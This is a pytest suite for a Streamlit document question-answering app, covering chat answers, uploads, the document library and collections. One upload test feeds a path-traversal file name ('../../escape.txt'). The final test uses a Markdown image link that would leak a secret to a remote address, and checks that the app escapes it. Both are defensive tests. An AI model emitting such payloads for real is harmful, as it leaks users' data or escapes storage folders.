"""The Streamlit app through AppTest, with the fake embedder and echo model on temporary stores."""

from __future__ import annotations

import os
import re
import socket
from pathlib import Path

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from rag.config import load_settings
from rag.service import RagService
from tests.fixtures_docs import pdf_bytes

APP = str(Path(__file__).resolve().parents[1] / "app.py")
NOTES = "The citation badge colour is teal. Every answer lists its sources.\n\nThe archive is kept in Lisbon.\n"


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for name in list(os.environ):
        if name.startswith("RAG_"):
            monkeypatch.delenv(name)
    monkeypatch.chdir(tmp_path)  # no stray .env, and relative defaults land in the temp folder
    monkeypatch.setenv("RAG_EMBED_MODEL", "fake")
    monkeypatch.setenv("RAG_LLM_MODEL", "fake")
    monkeypatch.setenv("RAG_STORE_DIR", str(tmp_path / "store"))
    monkeypatch.setenv("RAG_DATA_DIR", str(tmp_path / "data"))
    st.cache_resource.clear()  # get_service is keyed by collection only: each test gets its own store
    yield tmp_path
    st.cache_resource.clear()


def ingest_notes(folder: Path) -> Path:
    path = folder / "notes.txt"
    path.write_text(NOTES, encoding="utf-8")
    report = RagService(load_settings()).ingestor.ingest_paths([path])
    assert report.results[0].status == "ingested"
    return path


def app() -> AppTest:
    return AppTest.from_file(APP, default_timeout=60).run()


def texts(at: AppTest, role: str) -> list[str]:
    """What the reader sees: the Markdown source with its escapes removed (chat text is always escaped)."""
    return [re.sub(r"\\(.)", r"\1", m.markdown[0].value) for m in at.chat_message if m.name == role]


def all_text(at: AppTest) -> str:
    parts = [e.value for kind in ("markdown", "caption", "info", "success", "error", "warning") for e in at.get(kind)]
    return "\n".join(str(p) for p in parts) + "\n".join(e.label for e in at.expander)


def test_empty_collection_explains_how_to_add_documents(env: Path) -> None:
    at = app()
    assert not at.exception
    assert "no documents yet" in at.info[0].value and "python -m ingest PATH" in at.info[0].value
    assert not at.chat_input  # stopped before the chat
    assert at.sidebar.get("file_uploader")  # ... but the uploader is there


def test_question_gets_an_answer_with_sources(env: Path) -> None:
    ingest_notes(env)
    at = app()
    assert not at.info
    at.chat_input[0].set_value("What colour is the citation badge?").run()
    assert not at.exception
    assert texts(at, "user") == ["What colour is the citation badge?"]
    assert texts(at, "assistant") == ["Based on the documents [1]."]
    assert "notes\\.txt" in at.caption[0].value
    assert any("notes\\.txt" in e.label for e in at.expander)
    assert at.sidebar.get("download_button")  # the export
    # A rerun (any widget) replays the history from session state.
    at.run()
    assert texts(at, "assistant") == ["Based on the documents [1]."]
    {b.label: b for b in at.sidebar.button}["New conversation"].click().run()
    assert not at.chat_message


def test_unrelated_question_abstains(env: Path) -> None:
    ingest_notes(env)
    at = app()
    at.chat_input[0].set_value("Quantum chromodynamics of gluons?").run()
    assert texts(at, "assistant") == ["The documents do not contain an answer to this question."]
    assert "relevant enough" in all_text(at)


def test_unreachable_chroma_server_names_the_setting(env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]  # closed again when the block ends: nothing listens there
    monkeypatch.setenv("RAG_CHROMA_HOST", "127.0.0.1")
    monkeypatch.setenv("RAG_CHROMA_PORT", str(port))
    at = app()
    assert not at.exception
    assert "RAG_CHROMA_HOST" in at.error[0].value


def test_bad_setting_is_shown_not_raised(env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RAG_TOP_K", "0")
    at = app()
    assert not at.exception and "RAG_TOP_K" in at.error[0].value


def test_sessions_keep_separate_histories(env: Path) -> None:
    ingest_notes(env)
    first, second = app(), app()
    first.chat_input[0].set_value("What colour is the citation badge?").run()
    second.chat_input[0].set_value("Where is the archive kept?").run()
    first.chat_input[0].set_value("Which city holds the archive?").run()
    assert texts(first, "user") == ["What colour is the citation badge?", "Which city holds the archive?"]
    assert texts(second, "user") == ["Where is the archive kept?"]
    assert len(texts(second, "assistant")) == 1


def test_upload_ingests_saves_safely_and_skips_duplicates(env: Path) -> None:
    at = app()
    uploader = at.sidebar.get("file_uploader")[0]
    uploader.set_value([("../../escape.txt", NOTES.encode(), "text/plain")]).run()
    assert not at.exception
    assert [s.value for s in at.success] == ["escape\\.txt: ingested, 1 chunk"]
    assert (env / "data" / "uploads" / "escape.txt").read_text() == NOTES
    assert not (env / "escape.txt").exists()
    assert not at.info  # documents now: the chat is shown
    assert at.chat_input

    at.sidebar.get("file_uploader")[0].set_value([("escape.txt", NOTES.encode(), "text/plain")]).run()
    assert "already ingested, skipped" in at.info[0].value

    at.sidebar.get("file_uploader")[0].set_value([("broken.pdf", b"not a pdf at all", "application/pdf")]).run()
    assert "broken\\.pdf" in at.error[0].value
    assert len(RagService(load_settings()).store.documents()) == 1


def test_upload_over_the_limit_is_refused_per_file(env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RAG_MAX_UPLOAD_MB", "1")
    at = app()
    files = [("big.txt", b"a " * 600_000, "text/plain"), ("small.txt", NOTES.encode(), "text/plain")]
    at.sidebar.get("file_uploader")[0].set_value(files).run()
    assert "big\\.txt" in at.error[0].value and "RAG_MAX_UPLOAD_MB" in at.error[0].value
    assert "small\\.txt: ingested" in at.success[0].value


def test_library_remove_and_reingest(env: Path) -> None:
    ingest_notes(env)
    pdf = env / "guide.pdf"
    pdf.write_bytes(pdf_bytes(["Intro page", "The badge colour is teal."]))
    RagService(load_settings()).ingestor.ingest_paths([pdf])
    at = app()
    assert "Library: 2 documents" in [e.label for e in at.sidebar.expander]
    frame = at.sidebar.dataframe[0].value
    assert list(frame["document"]) == ["guide.pdf", "notes.txt"] and frame["pages"].iloc[0] == 2

    buttons = {b.label: b for b in at.sidebar.button}
    buttons["Re-ingest"].click().run()
    assert "guide\\.pdf: ingested" in at.success[0].value

    at.chat_input[0].set_value("What colour is the badge?").run()
    assert any("guide\\.pdf, page 2" in e.label for e in at.expander)
    assert at.get("download_button")  # the page as a one-page PDF

    {b.label: b for b in at.sidebar.button}["Remove"].click().run()
    assert "guide\\.pdf: removed" in at.success[0].value
    assert [r.file_name for r in RagService(load_settings()).store.documents().values()] == ["notes.txt"]
    assert pdf.exists()  # a file ingested from elsewhere is not deleted


def test_collections_switch(env: Path) -> None:
    ingest_notes(env)
    RagService(load_settings(collection="fresh-one"))  # creates it (AppTest cannot type a new selectbox option)
    at = app()
    picker = at.sidebar.selectbox(key="collection_picker")
    assert picker.options == ["documents", "fresh-one"]
    picker.set_value("fresh-one").run()
    assert not at.exception
    assert "fresh\\-one" in at.info[0].value  # the new, empty collection
    at.sidebar.selectbox(key="collection_picker").set_value("documents").run()
    assert not at.info and at.chat_input


def test_bad_collection_name_is_an_error(env: Path) -> None:
    at = app()
    at.session_state["collection"] = "x"
    at.run()
    assert not at.exception and "RAG_COLLECTION" in at.error[0].value


def test_model_output_cannot_embed_remote_images() -> None:
    """A Markdown image in an answer would make the browser fetch a URL: the chat shows it as inert text."""
    from ui.text import escape_markdown  # what app.py applies to every chat message

    rendered = escape_markdown("![x](http://203.0.113.9/leak?q=secret) and [link](http://203.0.113.9)")
    assert "![" not in rendered and "](" not in rendered
    assert re.sub(r"\\(.)", r"\1", rendered) == "![x](http://203.0.113.9/leak?q=secret) and [link](http://203.0.113.9)"
